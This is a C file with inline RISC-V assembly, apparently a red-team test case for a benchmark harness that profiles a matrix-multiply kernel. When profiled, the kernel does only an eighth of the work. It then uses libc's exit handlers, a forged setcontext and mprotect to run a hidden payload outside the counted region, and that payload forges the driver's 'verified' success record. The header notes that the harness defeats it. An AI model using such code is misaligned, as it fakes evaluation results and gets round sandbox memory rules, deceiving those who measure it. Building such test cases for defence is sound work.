/* TRICK (red team 3c, rv64-qemu only): post-region execution through libc's exit handlers.
   Inside the counted call (profiled run only) the kernel computes 1/8 of the rows, registers an exit
   handler with libc's own __cxa_atexit (no system call: plain memory), whose function is libc's
   setcontext and whose argument is a forged ucontext: at exit(), outside the counted region,
   setcontext "calls" mprotect(payload, 4096, R|X) with ra = payload, a copy (in a malloc'd page,
   outside the kernel= range) of code kept in .rodata. The payload computes the whole product,
   rewrites pick.bin and replaces the driver's (failed) record on fd 3, then exit_group(0).
   It modelled 355,839 cycles at 128^3, 7.9x the honest loop (ok), before the driver's profile mode
   ended with _exit (no exit handlers after the count) and the plugin kept its memory rules to the
   end of the run (no PROT_EXEC after the counted call either).
   EXPECT rv64-qemu: wrong_answer (its exit handler never runs: 7/8 of C is left unwritten) */
#include <stdint.h>
#include <string.h>
#include <stdlib.h>

__asm__(
    ".section .rodata.pl,\"a\"\n"
    ".p2align 3\n"
    "pl_start:\n"
    "  ld t0, 0(s1)\n ld t1, 8(s1)\n ld t2, 16(s1)\n ld a3, 24(s1)\n ld a4, 32(s1)\n"
    "  ld a5, 40(s1)\n ld a6, 48(s1)\n ld a7, 56(s1)\n ld s2, 64(s1)\n"
    "  slli s8, a6, 2\n"
    "  li s3, 0\n"
    "1: bge s3, t0, 9f\n"
    "  li s4, 0\n"
    "2: bge s4, t1, 8f\n"
    "  fmv.w.x ft0, zero\n"
    "  li s5, 0\n"
    "  mul s6, s3, a4\n slli s6, s6, 2\n add s6, s6, a3\n"
    "  slli s7, s4, 2\n add s7, s7, a5\n"
    "3: bge s5, t2, 4f\n"
    "  flw ft1, 0(s6)\n flw ft2, 0(s7)\n fmadd.s ft0, ft1, ft2, ft0\n"
    "  addi s6, s6, 4\n add s7, s7, s8\n addi s5, s5, 1\n j 3b\n"
    "4: mul s9, s3, s2\n add s9, s9, s4\n slli s9, s9, 2\n add s9, s9, a7\n"
    "  fsw ft0, 0(s9)\n addi s4, s4, 1\n j 2b\n"
    "8: addi s3, s3, 1\n j 1b\n"
    "9: ld s10, 72(s1)\n"
    "  li a0, -100\n ld a1, 96(s1)\n li a2, 0x201\n li a3, 0\n li a7, 56\n jalr s10\n"
    "  mv s11, a0\n"
    "  mv a0, s11\n ld a1, 56(s1)\n ld a2, 104(s1)\n li a7, 64\n jalr s10\n"
    "  mv a0, s11\n li a7, 57\n jalr s10\n"
    "  li a0, 3\n li a1, 0\n li a7, 46\n jalr s10\n"
    "  li a0, 3\n li a1, 0\n li a2, 0\n li a7, 62\n jalr s10\n"
    "  li a0, 3\n ld a1, 80(s1)\n ld a2, 88(s1)\n li a7, 64\n jalr s10\n"
    "  li a0, 0\n li a7, 94\n jalr s10\n"
    "  j 9b\n"
    "pl_end:\n"
    ".text\n");
extern const unsigned char pl_start[] __asm__("pl_start");
extern const unsigned char pl_end[] __asm__("pl_end");

static void naive(int M, int N, int K, const float *A, int lda, const float *B, int ldb, float *C, int ldc, int rows)
{
    for (int i = 0; i < rows; i++) {
        float *c = C + (long)i * ldc;
        for (int j = 0; j < N; j++) c[j] = 0.0f;
        for (int k = 0; k < K; k++) {
            float a = A[(long)i * lda + k];
            const float *b = B + (long)k * ldb;
            for (int j = 0; j < N; j++) c[j] += a * b[j];
        }
    }
}

static uint32_t w32(const unsigned char *p) { return (uint32_t)p[0] | p[1] << 8 | p[2] << 16 | (uint32_t)p[3] << 24; }

static const unsigned char *memcpy_in_libc(void)
{
    const unsigned char *site;
    char d[8], s[8] = {0};
    __asm__ volatile("lla %0, 1f\n  mv a0, %1\n  mv a1, %2\n  li a2, 1\n1: call memcpy\n"
                     : "=&r"(site) : "r"(d), "r"(s) : "a0", "a1", "a2", "a3", "a4", "a5", "a6", "a7", "t0", "t1", "t2",
                       "t3", "t4", "t5", "t6", "ra", "memory");
    uint32_t au = w32(site), jr = w32(site + 4);
    const unsigned char *plt;
    if ((au & 0x7f) == 0x6f) {
        int32_t imm = (int32_t)(((au >> 31) & 1) << 20 | ((au >> 12) & 0xff) << 12 | ((au >> 20) & 1) << 11 |
                                ((au >> 21) & 0x3ff) << 1);
        plt = site + ((imm << 11) >> 11);
    } else {
        plt = site + (int32_t)(au & 0xfffff000u) + ((int32_t)jr >> 20);
    }
    uint32_t pa = w32(plt), pl = w32(plt + 4);
    const unsigned char *const *got = (const unsigned char *const *)(plt + (int32_t)(pa & 0xfffff000u) + ((int32_t)pl >> 20));
    return *got;
}

/* the profiled call: the driver calls tensorop_region_end (a bare `ret`) right after us */
static int profiled(const unsigned char *ra)
{
    for (int off = 0; off < 24; off += 2) {
        const unsigned char *p = ra + off;
        uint32_t w = w32(p);
        if ((w & 0xfff) == 0x0ef) {
            int32_t imm = (int32_t)(((w >> 31) & 1) << 20 | ((w >> 12) & 0xff) << 12 | ((w >> 20) & 1) << 11 |
                                    ((w >> 21) & 0x3ff) << 1);
            const unsigned char *t = p + ((imm << 11) >> 11);
            return t[0] == 0x82 && t[1] == 0x80;
        }
    }
    return 0;
}

typedef int (*cxa_fn)(void (*)(void *), void *, void *);

void tensorop_gemm_f32(int M, int N, int K, const float *A, int lda, const float *B, int ldb, float *C, int ldc)
{
    static int armed;
    const unsigned char *ra = __builtin_return_address(0);
    if (armed || !profiled(ra)) {
        naive(M, N, K, A, lda, B, ldb, C, ldc, M);
        return;
    }
    /* the seed: the driver's `buffers` (in A, in B, bytes, bytes, out, words, seed) on its stack */
    uint64_t *sp = __builtin_frame_address(0), seed = 0;
    int found = 0;
    for (int i = 0; i < 1024 && !found; i++)
        if (sp[i] == (uint64_t)A && sp[i + 1] == (uint64_t)B && sp[i + 4] == (uint64_t)C) { seed = sp[i + 6]; found = 1; }
    const unsigned char *m = memcpy_in_libc();
    const unsigned char *base = (const unsigned char *)((uintptr_t)m & ~(uintptr_t)4095);
    for (int i = 0; i < 4096 && w32(base) != 0x464c457f; i++) base -= 4096;
    if (!found || w32(base) != 0x464c457f || w32(base + 0xb8100) != 0x0e200893) {
        naive(M, N, K, A, lda, B, ldb, C, ldc, M);
        return;
    }
    armed = 1;
    unsigned char *code = aligned_alloc(4096, 4096);
    unsigned char *stack = aligned_alloc(4096, 65536);
    uint64_t *ctx = aligned_alloc(64, 4096);
    unsigned char *uc = aligned_alloc(64, 2048);
    memset(uc, 0, 2048);
    memset(ctx, 0, 4096);
    memcpy(code, pl_start, (size_t)(pl_end - pl_start));
    char *line = (char *)(ctx + 64), *path = (char *)(ctx + 40);
    memcpy(path, "pick.bin", 9);
    /* the driver's success record for this call */
    char digits[24];
    int nd = 0;
    uint64_t s = seed;
    do { digits[nd++] = (char)('0' + s % 10); s /= 10; } while (s);
    const char *pre = "{\"tensorop\":\"driver\",\"op\":\"gemm\",\"mode\":\"profile\",\"verified\":true,\"calls\":1,"
                      "\"pick\":{\"sample\":0,\"seed\":";
    const char *post = "},\"freivalds_rel_err\":1.000e-07}\n";
    size_t n = strlen(pre);
    memcpy(line, pre, n);
    while (nd) line[n++] = digits[--nd];
    memcpy(line + n, post, strlen(post));
    n += strlen(post);
    ctx[0] = (uint64_t)M; ctx[1] = (uint64_t)N; ctx[2] = (uint64_t)K; ctx[3] = (uint64_t)A; ctx[4] = (uint64_t)lda;
    ctx[5] = (uint64_t)B; ctx[6] = (uint64_t)ldb; ctx[7] = (uint64_t)C; ctx[8] = (uint64_t)ldc;
    ctx[9] = (uint64_t)(base + 0xb8104);          /* `ecall` in mprotect(), then `ret` */
    ctx[10] = (uint64_t)line; ctx[11] = n; ctx[12] = (uint64_t)path; ctx[13] = (uint64_t)M * (uint64_t)ldc * 4;
    *(uint64_t *)(uc + 176) = (uint64_t)(base + 0xb8100);   /* pc: mprotect */
    *(uint64_t *)(uc + 184) = (uint64_t)code;                /* ra: the payload */
    *(uint64_t *)(uc + 192) = (uint64_t)(stack + 65536 - 64);
    *(uint64_t *)(uc + 248) = (uint64_t)ctx;                 /* s1 */
    *(uint64_t *)(uc + 256) = (uint64_t)code;
    *(uint64_t *)(uc + 264) = 4096;
    *(uint64_t *)(uc + 272) = 5;                              /* PROT_READ|PROT_EXEC */
    cxa_fn cxa = (cxa_fn)(base + 0x387de);
    cxa((void (*)(void *))(base + 0x3af08), uc, 0);          /* setcontext(uc) at exit */
    naive(M, N, K, A, lda, B, ldb, C, ldc, M / 8);
}
